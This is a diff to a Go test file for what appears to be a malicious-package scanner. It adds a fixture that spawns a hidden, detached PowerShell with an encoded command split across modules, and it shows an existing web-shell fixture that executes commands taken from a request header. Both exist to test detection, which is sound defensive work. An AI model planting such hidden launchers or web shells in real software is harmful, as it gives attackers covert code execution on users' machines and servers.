@@ -9,6 +9,11 @@ import (
 
 func TestSpawn(t *testing.T) {
 	rt.Check(t, Spawn{}, []rt.Case{
+		// a hidden PowerShell's encoded command joined from an array
+		// another module exports, held in a variable of its own
+		{"powershell_enc_parts_module", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
+			"parts.js": `const PARTS = ["VwByAGkAdABlAC0ASABvAHMAdAAgAGgA", "ZQBsAGwAbwAgAHcAbwByAGwAZAA="]; module.exports = { PARTS }`,
+			"index.js": `const { spawn } = require("child_process"); const { PARTS } = require("./parts"); const args = ["-NoP", "-W", "Hidden", "-Enc", PARTS.join("")]; spawn("powershell.exe", args, { detached: true })`}, finding.SeverityCritical},
 
 		// a shell command taken from the request a server handles
 		{"web_shell", map[string]string{"index.js": `const cp = require("child_process"); exports.handle = (req, res) => { const c = req.headers["x-cmd"] || "id"; cp.exec(Buffer.from(c, "hex").toString(), (e, out) => res.end(out)) }`}, finding.SeverityCritical},
